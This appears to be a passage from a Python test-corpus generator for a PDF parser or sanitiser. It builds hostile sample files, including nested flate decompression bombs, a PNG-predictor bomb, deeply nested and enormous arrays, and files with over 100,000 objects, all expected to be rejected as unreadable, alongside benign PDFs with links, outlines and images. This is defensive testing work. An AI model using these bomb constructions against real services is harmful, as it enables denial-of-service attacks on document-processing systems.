    forty = zlib.compress(b"\x00" * (40 * 1024 * 1024), 9)
    many = {20 + i: stream_object(forty, b"/Filter /FlateDecode") for i in range(8)}
    yield Sample("bombs", "eight-streams-of-40-mb", raw_pdf({**objects, **streams, **many}), "unreadable")
    nested = zlib.compress(zlib.compress(b"\x00" * (200 * 1024 * 1024), 9), 9)
    yield Sample(
        "bombs",
        "flate-of-flate-bomb",
        raw_pdf({**objects, 11: stream_object(nested, b"/Filter [/FlateDecode /FlateDecode]")}),
        "unreadable",
    )

    def bomb_encoding(data: bytes) -> tuple[bytes, bytes]:
        return b"/Filter /FlateDecode", zlib.compress(data + b" " * (200 * 1024 * 1024), 9)

    yield Sample(
        "bombs", "object-stream-bomb", raw_pdf(streams, packed=objects, encoding=bomb_encoding), "unreadable"
    )
    predictor = zlib.compress(b"\x02" + b"\x00" * (100 * 1024 * 1024), 9)
    yield Sample(
        "bombs",
        "png-predictor-bomb",
        raw_pdf(
            {
                **objects,
                11: stream_object(
                    predictor, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 104857600 >>"
                ),
            }
        ),
        "unreadable",
    )
    deep = b"[" * 1000 + b"]" * 1000
    yield Sample("bombs", "nested-1000-deep", raw_pdf({**objects, **streams, 30: deep}), "unreadable")
    wide = b"[" + b"0 " * 2_100_000 + b"]"
    yield Sample("bombs", "array-of-2100000", raw_pdf({**objects, **streams, 30: wide}), "unreadable")

    def packed_zeros(data: bytes) -> tuple[bytes, bytes]:  # an object stream of 5 million values
        return flate(data.replace(b"null", b"[" + b"0 " * 5_000_000 + b"]"))

    crowded = {**objects, 30: b"null"}
    yield Sample(
        "bombs",
        "object-stream-of-5000000-values",
        raw_pdf(streams, packed=crowded, encoding=packed_zeros),
        "unreadable",
    )
    crowd = {30 + i: b"null" for i in range(100_001)}
    yield Sample("bombs", "over-100000-objects", raw_pdf({**objects, **streams, **crowd}), "unreadable")


def hostile_pdfs() -> Iterator[Sample]:
    yield from built_with_pikepdf()
    yield from written_by_hand()
    yield from padded_object_streams()
    yield from damaged()
    yield from hidden_from_the_table()
    yield from encrypted()
    yield from too_large()


# --- benign -----------------------------------------------------------------------------------------


def _with_image(pdf: pikepdf.Pdf, data: bytes, **keys) -> None:
    image = pdf.make_stream(data)
    for key, value in {
        "Type": Name.XObject,
        "Subtype": Name.Image,
        "Width": 8,
        "Height": 8,
        "ColorSpace": Name.DeviceRGB,
        "BitsPerComponent": 8,
        **keys,
    }.items():
        image[Name("/" + key)] = value
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Im1=pdf.make_indirect(image))
    page.Contents = pdf.make_stream(b"q 100 0 0 100 72 600 cm /Im1 Do Q")


def _jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def _incremental_update() -> bytes:
    """A file with an appended revision (a new content stream, a second table with /Prev)."""
    objects, streams = raw_document(EMPTY)
    base = raw_pdf({**objects, **streams})
    prev = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    update = b"11 0 obj\n" + stream_object(b"BT /F1 18 Tf 72 700 Td (Amended statutes) Tj ET") + b"\nendobj\n"
    at = len(base)
    xref_at = at + len(update)
    table = b"xref\n11 1\n%010d 00000 n \n" % at
    table += b"trailer\n<< /Size 12 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref_at)
    return base + update + table


def benign_pdfs() -> Iterator[Sample]:
    def built(name: str, build: Callable[[pikepdf.Pdf], None], **options) -> Sample:
        pdf = text_document()
        build(pdf)
        return Sample("benign", name, _save(pdf, **options))

    def outline(pdf):
        with pdf.open_outline() as tree:
            tree.root.append(pikepdf.OutlineItem("Preamble", 0))
            tree.root.append(pikepdf.OutlineItem("Article 1", 0, "FitH", top=700))

    yield built("text-page", lambda pdf: None)
    yield built(
        "text-page-object-streams", lambda pdf: None, object_stream_mode=pikepdf.ObjectStreamMode.generate
    )
    yield built(
        "link-to-a-web-page",
        lambda pdf: PLACES["link-annotation"](
            pdf, Dictionary(S=Name.URI, URI=String("https://nus.example.org/"))
        ),
    )
    yield built(
        "mailto-link",
        lambda pdf: PLACES["link-annotation"](
            pdf, Dictionary(S=Name.URI, URI=String("mailto:info@nus.example.org"))
        ),
    )
    yield built(
        "internal-link",
        lambda pdf: PLACES["link-annotation"](
            pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
        ),
    )
    yield built("outline", outline)
    yield built("outline-object-streams", outline, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield built(
        "open-at-a-destination",
        lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.FitH, 842])),
    )
    yield built(
        "named-destinations",
        lambda pdf: setattr(
            pdf.Root,
            "Names",
            Dictionary(Dests=Dictionary(Names=Array([String("art1"), Array([pdf.pages[0].obj, Name.Fit])]))),
        ),
    )
    yield built("jpeg-image", lambda pdf: _with_image(pdf, _jpeg(), Filter=Name.DCTDecode))
    yield built(
        "jpeg-image-flate-wrapped",
        lambda pdf: _with_image(
            pdf,
            zlib.compress(_jpeg()),
            Filter=Array([Name.FlateDecode, Name.DCTDecode]),
            DecodeParms=Array([pikepdf.Object.parse(b"null"), pikepdf.Object.parse(b"null")]),
        ),
    )
    yield built(
        "flate-image-with-predictor",
        lambda pdf: _with_image(
            pdf,
            zlib.compress(_png_up(bytes(range(192)), 24)),
            Filter=Name.FlateDecode,
            DecodeParms=Dictionary(Predictor=12, Columns=8, Colors=3, BitsPerComponent=8),
        ),
    )
    objects, streams = raw_document(EMPTY)
    yield Sample("benign", "written-by-hand", raw_pdf({**objects, **streams}))
    yield Sample("benign", "written-by-hand-object-stream", raw_pdf(streams, packed=objects))
    yield Sample("benign", "incremental-update", _incremental_update())
